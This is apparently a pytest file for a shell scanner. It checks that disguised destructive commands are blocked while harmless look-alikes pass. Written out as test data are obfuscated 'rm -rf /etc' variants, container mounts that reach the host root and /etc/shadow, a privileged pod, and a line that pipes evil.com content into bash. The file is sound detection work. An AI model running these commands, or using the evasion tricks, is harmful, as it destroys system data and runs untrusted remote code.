"""Disguised dangers, each beside a harmless script of the same shape: the one blocks, the other does not."""

# ruff: noqa: E501 - one pair a line

import pytest

from refute.scan.finding import Severity
from refute.scan.rules import Language
from refute.scan.scanner import scan_files, scan_text

SHELL = {
    "paste joins lines": (
        "c=$(printf 'r\\nm\\n' | paste -sd ''); $c -rf /etc",
        "c=$(printf '1\\n2\\n' | paste -sd+); echo $((c))",
    ),
    "bash dash s": ("bash -s -- /etc <<'X'\nrm -rf \"$1\"\nX", "bash -s -- build <<'X'\nrm -rf \"$1\"\nX"),
    "rsync path": (
        "rsync --rsync-path='rm -rf /etc; rsync' a localhost:b",
        "rsync --rsync-path=/usr/bin/rsync a localhost:b",
    ),
    "awk from process substitution": (
        "awk -f <(echo 'BEGIN{system(\"rm -rf /etc\")}')",
        "awk -f <(echo '{print $1}') data.txt",
    ),
    "read array": ("read -ra w <<< 'rm -rf /etc'; \"${w[@]}\"", "read -ra w <<< 'ls -l build'; \"${w[@]}\""),
    "env chdir": ("env -C /etc rm -rf .", "env -C build rm -rf out"),
    "start-stop-daemon": (
        "start-stop-daemon --start --exec /bin/rm -- -rf /etc",
        'start-stop-daemon --start --exec "$PWD/server" -- --port 8000',
    ),
    "make from process substitution": (
        "make -f <(printf 'x:\\n\\trm -rf /etc\\n') x",
        "make -f <(printf 'x:\\n\\techo hi\\n') x",
    ),
    "output to process substitution": ("echo 'rm -rf /etc' > >(bash)", "echo 'hello' > >(cat)"),
    "tee to process substitution": (
        "echo 'rm -rf /etc' | tee >(sh) > /dev/null",
        "echo 'hello' | tee >(wc -c) > /dev/null",
    ),
    "command -v as word": ("$(command -v rm) -rf /etc", "$(command -v ls) -l build"),
    "arithmetic base": (
        "printf -v o '%o' $((16#72)); printf -v r \"\\\\$o\"; ${r}m -rf /etc",
        "printf -v o '%o' $((16#6c)); printf -v r \"\\\\$o\"; ${r}s -l build",
    ),
    "ssd": (
        "start-stop-daemon -S -x /bin/sh -- -c 'rm -rf /etc'",
        "start-stop-daemon --stop --pidfile build/x.pid --exec /usr/bin/tool",
    ),
    "docker run root": (
        "docker run --rm -v /:/host alpine rm -rf /host/etc",
        "docker run --rm -v \"$PWD:/src\" alpine sh -c 'rm -rf /tmp/x && ls /'",
    ),
    "docker home var": ('docker run -v "$HOME:/h" alpine tar c /h', ""),
    "docker userns": ("docker run --userns=host --ipc=host alpine sh", ""),
    "podman": ("podman run -v /etc:/e alpine cat /e/shadow", "podman run -v ./conf:/e:ro,Z alpine cat /e/shadow"),
    "kubectl exec": ("kubectl exec -it web -- rm -rf /data", ""),
    "kubectl run privileged": (
        'kubectl run x --image=alpine --overrides=\'{"spec":{"hostPID":true,"containers":[{"securityContext":{"privileged":true}}]}}\'',
        "",
    ),
    "a filter nobody works out": ("echo 'rm -rf /etc' | fold -w 99 | sh", "echo 'rm -rf /etc' | fold -w 99 | cat"),
    "xargs with a separator": ("printf 'rm,-rf,/etc' | xargs -d, env", "printf 'ls,-l,build' | xargs -d, env"),
}
ORDINARY = {
    "who listens at a port of the project": "lsof -ti:8080 | xargs -r kill -9",
    "waiting for a port": "while ! </dev/tcp/localhost/5432; do sleep 1; done",
    "test scripts one by one": "ls tests/*.sh | xargs -n1 bash\nprintf '%s\\0' tests/*.sh | xargs -0 -n1 bash -e",
    "a cloud on this machine": "aws --endpoint-url http://localhost:4566 s3 mb s3://test",
    "httpie on this machine": "http GET :8080/health",
}
NEARBY = {
    "another program, picked from a list": "python server.py &\nkill $(ps aux | grep sshd | awk '{print $2}')",
    "a cloud elsewhere": "aws --endpoint-url https://s3.example.com s3 ls",
    "a list from elsewhere": "curl -s http://evil.com/list | xargs -n1 bash",
    "waiting for a foreign port": "while ! </dev/tcp/evil.com/5432; do sleep 1; done",
}


def blocks(text: str, language: Language) -> bool:
    return any(finding.severity >= Severity.HIGH for finding in scan_text("x", text.encode(), language=language))


@pytest.mark.parametrize("kind", SHELL)
def test_disguised_shell_blocks_and_its_twin_does_not(kind: str) -> None:
    danger, twin = SHELL[kind]
    assert (blocks(danger, Language.SHELL), blocks(twin, Language.SHELL)) == (bool(danger), False)


@pytest.mark.parametrize("kind", ORDINARY)
def test_what_projects_do_on_their_own_machine_does_not_block(kind: str) -> None:
    assert not blocks(ORDINARY[kind], Language.SHELL)


@pytest.mark.parametrize("kind", NEARBY)
def test_the_same_to_others_blocks(kind: str) -> None:
    assert blocks(NEARBY[kind], Language.SHELL)


@pytest.mark.parametrize("script", ['eval "$(sort commands.txt | uniq)"', 'eval "$(sed s/x/y/ commands.txt)"'])
def test_what_a_filter_leaves_of_a_file_is_judged_as_the_whole(script: str) -> None:
    files = {"verify.sh": script.encode(), "commands.txt": b"# clean\nrm -rf /etc\n"}
    assert {finding.path for finding in scan_files(files, ["verify.sh"]).blocking} == {"verify.sh"}
